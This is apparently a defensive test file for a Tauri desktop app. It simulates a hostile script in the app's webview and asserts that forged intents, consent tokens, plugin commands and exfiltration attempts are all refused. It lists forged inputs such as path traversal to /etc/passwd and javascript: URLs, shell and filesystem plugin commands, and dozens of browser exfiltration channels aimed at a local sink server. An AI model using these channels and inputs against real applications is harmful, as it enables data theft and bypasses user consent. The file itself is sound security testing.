// A script in the page that means harm: it hears all the page hears, says all the page can say, in any order and with
// any values, and tries every way out. Nothing is opened, answered, sent, copied, kept or fetched by that: for what
// reaches out, the window's own toolkit must have seen a press.

import assert from 'node:assert/strict';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { state as say, watched } from './agent.mjs';
import { openAssent, part, ROOT } from './assent.mjs';
import { backward, inward, outward, UNTRIED } from './intents.mjs';
import { Stage } from './stage.mjs';
import { pause, until } from './until.mjs';
import { ask, review } from './walk.mjs';
import { fingerprint } from '../web/fingerprint.mjs';
import { form, link, opened, permission } from '../web/script.mjs';

/** @typedef {import('./agent.mjs').Scene} Scene */
/** @typedef {import('./webdriver.mjs').Page} Page */
/** @typedef {import('./intents.mjs').About} About */
/** @typedef {Record<string, unknown> & { type: string, do?: unknown, set?: unknown }} Intent */

const PLAIN = 'https://login.example.com/authorize?client_id=a&state=b';
const OTHER = 'https://accounts.example.org/consent?state=c';

/** Longer than a consent takes to be armed, in milliseconds. */
const ARMED = 1_200;
/** Shorter than what a press of before counts for. */
const FRESH = 2_000;

const ASKING = [...opened(), link(1, PLAIN), permission(2), form(3, { a: { type: 'string', default: 'x' } }), link(4, OTHER)];

/** For the table of `make proof`. Whatever was opened without consent has failed its test by then. */
const figures = { name: 'a hostile page', runs: 0, bad_inputs: 0, faults: 0, answered: 0, lost_answers: 0, lost_drafts: 0, opened_without_consent: 0, peak_memory_bytes: null };

/**
 * States an intent, and counts it.
 * @param {Page} page
 * @param {object} intent
 */
function state(page, intent) {
  figures.bad_inputs += 1;
  return say(page, intent);
}

/** Takes the place of the page's own ears. @param {Page} page */
async function listen(page) {
  figures.runs += 1;
  await page.run(`window.heard = [];
    const { invoke, transformCallback } = window.__TAURI_INTERNALS__;
    const id = transformCallback((message) => {
      const text = JSON.stringify(message);
      window.heard.push(text);
      const rev = /"rev":(\\d+)/.exec(text)?.[1];
      if (rev) invoke('send', { intent: { type: 'window', do: 'got', rev: Number(rev) } });
    });
    return invoke('subscribe', { channel: '__CHANNEL__:' + id }).then(() => 'listening', String);`);
  await until('the script to hear', async () => (await heard(page)).includes('"snapshot"'));
}

/** All it has heard. @param {Page} page @returns {Promise<string>} */
const heard = (page) => page.run("return window.heard.join('\\n')");

/** How often it was told that something counts with a press only. @param {Page} page */
const refusals = async (page) => (await heard(page)).split('"not-pressed"').length - 1;

/**
 * The numbers of the asks in the order they came, and that of the session.
 * @param {Page} page
 */
async function numbers(page) {
  const script = `const asks = new Set();
    const walk = (value) => {
      if (typeof value !== 'object' || value === null) return;
      if (['form', 'link', 'permission'].includes(value.body?.kind) && value.head) asks.add(value.head.id);
      Object.values(value).forEach(walk);
    };
    for (const text of window.heard) walk(JSON.parse(text));
    return [...asks].sort((a, b) => a - b);`;
  const asks = await until('all four asks to be heard', async () => {
    const found = /** @type {number[]} */ (await page.run(script));
    return found.length === 4 && found;
  });
  const session = Number(await (await page.find('[data-session-id]')).attribute('data-session-id'));
  return { asks, session };
}

/**
 * Opens the consent dialog as a script can, and gives its token.
 * @param {Page} page
 * @param {number} ask
 */
async function token(page, ask) {
  await page.run('window.heard.length = 0');
  await state(page, { type: 'review-link', ask });
  const found = await until('the token', async () => /"token":"([0-9a-f]+)"/.exec(await heard(page))?.[1]);
  await state(page, { type: 'link-shown', ask, token: found });
  return found;
}

/** What is kept of agents and servers, of those files that hold them. @param {Stage} stage */
async function kept(stage) {
  const names = await readdir(join(stage.folder, 'state'), { recursive: true });
  return names.filter((name) => /agents\.json|mcp-servers\.json|secrets\.json/.test(name));
}

/**
 * Asserts that nothing came of it.
 * @param {Scene} scene
 */
async function nothingCame({ agent, browser, stage }) {
  assert.deepEqual(await browser.starts(), []);
  for (const id of [1, 2, 3, 4]) assert.deepEqual(await agent.answers(id), [], `ask ${id} was answered`);
  const methods = (await agent.received()).map(({ message }) => message.method);
  assert.deepEqual(methods.filter((method) => method === 'session/prompt'), []);
  assert.deepEqual(await kept(stage), []);
}

/** Opens a link as a person does, to show that it was there to be opened. @param {Scene} scene */
async function aPersonStillCan({ page, agent, browser, hands }) {
  await page.reload();
  await page.find(part('composer'));
  if ((await page.all(part('link-dialog'))).length > 0) {
    await page.click(part('link-back'));
    await page.gone(part('link-dialog'));
  }
  await until('the card of the link', async () => {
    if ((await page.all(ask('link', 'review-link'))).length > 0) return true;
    await page.click(part('dock-next'));
    return false;
  });
  await review(page);
  await page.find(`${part('link-open')}:enabled`);
  const address = await (await page.find(part('link-address'))).text();
  await hands.click(page, part('link-open'));
  assert.deepEqual(await browser.start(), [address]);
  assert.equal(await agent.result(address === PLAIN ? 1 : 4), '{"action":"accept"}');
  figures.answered += 1;
  assert.deepEqual(await browser.starts(), [[address]]);
}

watched('a script that hears the tokens and waits as long as a person would has nothing of it', ASKING, async (scene) => {
  const { page, hands } = scene;
  await page.find(part('ask'));
  await listen(page);
  const { asks, session } = await numbers(page);
  const [first = 0, allow = 0, typed = 0] = asks;
  const heardToken = await token(page, first);
  await state(page, { type: 'permission-shown', ask: allow });
  await pause(ARMED);
  await page.run('window.heard.length = 0');
  let stated = 0;
  for (const ask of [first, allow, typed]) {
    /** @type {About} */
    const about = { ask, session, connection: 1, agent: 1, number: 0, text: '/bin/true', token: heardToken, print: fingerprint(PLAIN) };
    for (const intent of outward(about)) {
      assert.equal(await state(page, intent), 'taken', JSON.stringify(intent));
      stated += 1;
    }
  }
  await until('every one of them to be refused', async () => (await refusals(page)) === stated);
  await nothingCame(scene);
  await hands.take();
  await aPersonStillCan(scene);
});

watched('a press from before it was armed does not count, and one press counts once', ASKING, async (scene) => {
  const { page, agent, browser, hands } = scene;
  await hands.take();
  await page.find(part('ask'));
  await listen(page);
  const { asks } = await numbers(page);
  const [first = 0, , , second = 0] = asks;
  const open = (/** @type {number} */ ask, /** @type {string} */ token, /** @type {string} */ url) =>
    state(page, { type: 'open-link', ask, token, fingerprint: fingerprint(url) });

  // While the person writes.
  await hands.press('a', 'b', 'c');
  let given = await token(page, first);
  await pause(ARMED);
  await hands.press('d', 'e', 'f', 'Tab', 'Shift_L');
  await open(first, given, PLAIN);
  await nothingCame(scene);

  // It was pressed for something else. It is fresh still, which a slow machine shows to be not: then it says nothing.
  await until('a press that is still fresh', async () => {
    const pressed = Date.now();
    await hands.nudge();
    given = await token(page, first);
    await pause(ARMED);
    await open(first, given, PLAIN);
    return Date.now() - pressed < FRESH;
  });
  await nothingCame(scene);

  // One press in the time of both: what a script can have of it is one.
  given = await token(page, first);
  await pause(ARMED);
  await hands.nudge();
  await open(first, given, PLAIN);
  assert.deepEqual(await browser.start(), [PLAIN]);
  await agent.answer(1);
  const next = await token(page, second);
  await pause(ARMED);
  await open(second, next, OTHER);
  await state(page, { type: 'submit', ask: asks[2], secret: false });
  await until('both to be refused', async () => (await refusals(page)) === 2);
  assert.deepEqual(await browser.starts(), [[PLAIN]]);
  for (const id of [2, 3, 4]) assert.deepEqual(await agent.answers(id), []);
});

/** Values that name nothing of ours, or are none. @type {Partial<About>[]} */
const FORGED = [
  { ask: 999, session: 999, connection: 999, agent: 999, number: 999 },
  { ask: 0, session: 0, connection: 0, agent: 0, number: 4294967295 },
  { ask: -1, session: 1.5, connection: '1', agent: null, number: 2 ** 53 },
  { ask: { id: 1 }, session: [1], connection: true, agent: 'Assent', number: '0' },
  { text: '../../../../etc/passwd', token: '../../etc/passwd', print: '/etc/passwd' },
  { text: 'file:///etc/passwd', token: 'javascript:alert(1)', print: 'https://evil.example/' },
  { text: { path: '/etc/passwd' }, token: null, print: 7 },
  { text: 'x'.repeat(300_000), token: 'x'.repeat(100_000), print: '' },
  { text: '\u0000\ud800\u202e', token: '\u0000', print: '\u0000' },
];

watched('forged values and forged orders do nothing but be refused', ASKING, async (scene) => {
  const { page, hands } = scene;
  await page.find(part('ask'));
  await listen(page);
  const { asks, session } = await numbers(page);
  const nowhere = { ask: 999, session: 999, connection: 999, agent: 999, number: 999, text: 'x', token: 'x', print: 'x' };
  for (const forged of FORGED) {
    const about = { ...nowhere, ...forged };
    for (const intent of [...outward(about), ...inward(about), ...backward(about)]) {
      const said = await state(page, intent);
      assert.match(said, /^taken$|invalid args|hex escape|surrogate/, `${said}: ${JSON.stringify(intent).slice(0, 300)}`);
    }
  }
  await nothingCame(scene);
  // In an order nobody would do them in, and on what is of another kind.
  const known = { ...nowhere, session, number: 0 };
  const mixed = asks.flatMap((ask) => [...outward({ ...known, ask }), ...inward({ ...known, ask })]);
  let dice = 12345;
  const random = () => (dice = (dice * 1103515245 + 12345) % 2147483648);
  for (const intent of mixed.map((intent) => ({ intent, at: random() })).sort((a, b) => a.at - b.at).map(({ intent }) => intent))
    assert.match(await state(page, intent), /^taken$|invalid args/);
  await nothingCame(scene);
  // What the page sends beside the intent, or under another name, is not taken.
  for (const more of [{ url: PLAIN }, { path: '/etc/passwd' }, { address: PLAIN }])
    assert.match(await state(page, { ...outward({ ...known, ask: asks[0] })[0], ...more }), /invalid args/);
  await hands.take();
  await aPersonStillCan(scene);
});

test('every intent there is is tried', async () => {
  /** @param {string} name */
  const wire = async (name) => (await readFile(join(ROOT, 'ui', 'src', 'wire', `${name}.ts`), 'utf8')).replaceAll(/\/\*\*.*?\*\//gs, '');
  const about = { ask: 1, session: 1, connection: 1, agent: 1, number: 0, text: 'x', token: 'x', print: 'x' };
  const tried = /** @type {Intent[]} */ ([...outward(about), ...inward(about), ...backward(about)]);
  const kinds = [...(await wire('Intent')).matchAll(/"type": "([a-z-]+)"( \} & (\w+))?/g)];
  assert.ok(kinds.length > 60);
  for (const [, kind = '', , nested] of kinds) {
    const these = tried.filter(({ type }) => type === kind);
    if (nested === undefined || nested === 'Preference') assert.ok(these.length > 0, `${kind} is not tried`);
    else {
      const all = [...(await wire(nested)).matchAll(/"do": "([a-z-]+)"/g)].map(([, what]) => what);
      const known = new Set([...these.map((it) => it['do']), ...(UNTRIED[kind] ?? [])]);
      assert.deepEqual(all.filter((what) => !known.has(what)), [], `of ${kind}`);
    }
  }
});

/** @type {Stage} */
let stage;
/** @type {Page} */
let page;
/** Connections, whatever is said on them. @type {string[]} */
const arrived = [];
const nobody = createServer((socket) => {
  arrived.push('a connection');
  socket.destroy();
});
let there = '';

before(async () => {
  await new Promise((done) => nobody.listen(0, '127.0.0.1', () => done(undefined)));
  const bound = nobody.address();
  there = `127.0.0.1:${typeof bound === 'object' ? bound?.port : ''}`;
  stage = await Stage.set();
  page = await openAssent(stage, ['--demo'], { ASSENT_TEST_HANDS: '' });
});
after(async () => {
  const folder = process.env['ASSENT_PROOF'];
  if (folder !== undefined) await writeFile(join(folder, 'a-hostile-page.json'), JSON.stringify(figures));
  nobody.close();
  await stage?.strike();
});

test('the server would notice', async () => {
  await assert.rejects(fetch(`http://${there}/control`));
  assert.notDeepEqual(arrived.splice(0), []);
});

test('no command of any plugin is reached', async () => {
  const text = await readFile(join(ROOT, 'src-tauri', 'gen', 'schemas', 'acl-manifests.json'), 'utf8');
  /** @type {Record<string, { permissions: Record<string, { commands: { allow: string[] } }> }>} */
  const manifests = JSON.parse(text);
  const known = Object.entries(manifests).flatMap(([plugin, { permissions }]) => {
    const commands = Object.values(permissions).flatMap(({ commands }) => commands.allow);
    // The program's own two are what the rest of this file is about.
    return plugin === '__app-acl__' ? [] : [...new Set(commands)].map((command) => `plugin:${plugin.replace('core:', '')}|${command}`);
  });
  assert.ok(known.length > 100, `${known.length} commands`);
  const more = [
    ...['read_text_file', 'read_file', 'write_text_file', 'write_file', 'read_dir', 'remove', 'open'].map((it) => `plugin:fs|${it}`),
    ...['open', 'execute', 'spawn', 'stdin_write', 'kill'].map((it) => `plugin:shell|${it}`),
    ...['open_url', 'open_path', 'reveal_item_in_dir'].map((it) => `plugin:opener|${it}`),
    ...['fetch', 'fetch_send'].map((it) => `plugin:http|${it}`),
    ...['exit', 'restart'].map((it) => `plugin:process|${it}`),
    ...['read_text', 'write_text'].map((it) => `plugin:clipboard-manager|${it}`),
    'plugin:notification|notify', 'plugin:store|load', 'plugin:websocket|connect', 'plugin:updater|check', 'plugin:upload|download',
    'plugin:single-instance|open', 'plugin:deep-link|register', 'plugin:os|hostname', 'open', 'run', 'hand_off', '__hand-off', 'agree',
  ];
  for (const command of [...known, ...more]) {
    const args = { path: '/etc/hostname', url: `http://${there}/`, uri: `http://${there}/`, program: 'true', value: 'x', label: 'main', options: {} };
    const script = 'return window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1]).then(() => "reached", () => "refused")';
    figures.bad_inputs += 1;
    assert.equal(await page.run(script, [command, args]), 'refused', command);
  }
  assert.deepEqual(arrived.splice(0), []);
});

const ways = /** @type {Record<string, string>} */ ({
  'fetch without an answer': "fetch(`http://${there}/`, { mode: 'no-cors', keepalive: true }).catch(() => {})",
  'an old kind of request': "const asks = new XMLHttpRequest(); asks.open('GET', `http://${there}/`); asks.send()",
  'a stream of events': 'new EventSource(`http://${there}/`)',
  'a socket': 'new WebSocket(`ws://${there}/`)',
  'a beacon': "navigator.sendBeacon(`http://${there}/`, 'x')",
  'a connection between pages': 'new RTCPeerConnection({ iceServers: [{ urls: `stun:${there}` }] }).createDataChannel("x")',
  'a worker': "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://' + there + '/\")'])))",
  'a shared worker': 'new SharedWorker(`http://${there}/`)',
  'a service worker': 'navigator.serviceWorker.register(`http://${there}/`).catch(() => {})',
  'a module': 'import(`http://${there}/`).catch(() => {})',
  'a window': 'window.open(`http://${there}/`); window.open(`http://${there}/`, "_self"); window.open("about:blank")',
  'another page': 'location.href = `http://${there}/`',
  'another page in its place': 'location.replace(`http://${there}/`)',
  'a file as page': 'location.href = "file:///etc/passwd"',
  'a script as page': 'location.href = `javascript:fetch("http://${there}/")`',
  'data as page': 'location.href = "data:text/html,x"',
  'a style': "const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { background-image: url(http://${there}/); }`); document.adoptedStyleSheets.push(sheet)",
  'a style of one element': "document.body.style.background = `url(http://${there}/)`",
  'a font': "new FontFace('x', `url(http://${there}/)`).load().catch(() => {})",
  'a form': "const added = document.createElement('form'); added.method = 'post'; added.action = `http://${there}/`; document.body.append(added); added.submit()",
  'a click on a link': "const added = document.createElement('a'); added.href = added.ping = `http://${there}/`; document.body.append(added); added.click(); added.target = '_blank'; added.click(); added.download = 'x'; added.click()",
  'a new beginning of addresses': "const added = document.createElement('base'); added.href = `http://${there}/`; document.head.append(added); fetch('x').catch(() => {})",
  'a page that is to change by itself': "const added = document.createElement('meta'); added.httpEquiv = 'refresh'; added.content = `0;url=http://${there}/`; document.head.append(added)",
});
for (const name of ['img', 'iframe', 'video', 'audio', 'embed', 'script', 'source', 'track', 'input'])
  ways[`an element ${name}`] = `const added = document.createElement('${name}'); added.type = 'image'; added.src = added.srcset = added.poster = \`http://\${there}/\`; document.body.append(added); try { added.load?.() } catch {}`;
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'])
  ways[`a link to ${rel}`] = `const added = document.createElement('link'); added.rel = '${rel}'; added.as = 'image'; added.href = \`http://\${there}/\`; document.head.append(added)`;

for (const [name, script] of Object.entries(ways)) {
  test(`nothing goes out by ${name}`, async () => {
    figures.runs += 1;
    figures.bad_inputs += 1;
    await page.run(`const there = arguments[0]; try { ${script} } catch {}`, [there]);
    // What was under way has had its time.
    await page.run('return new Promise((done) => setTimeout(done, 150))');
    assert.deepEqual(arrived.splice(0), []);
    assert.equal(new URL(await page.address()).host, 'localhost');
    assert.equal((await page.windows()).length, 1);
    await page.reload();
    await page.find(part('composer'));
  });
}
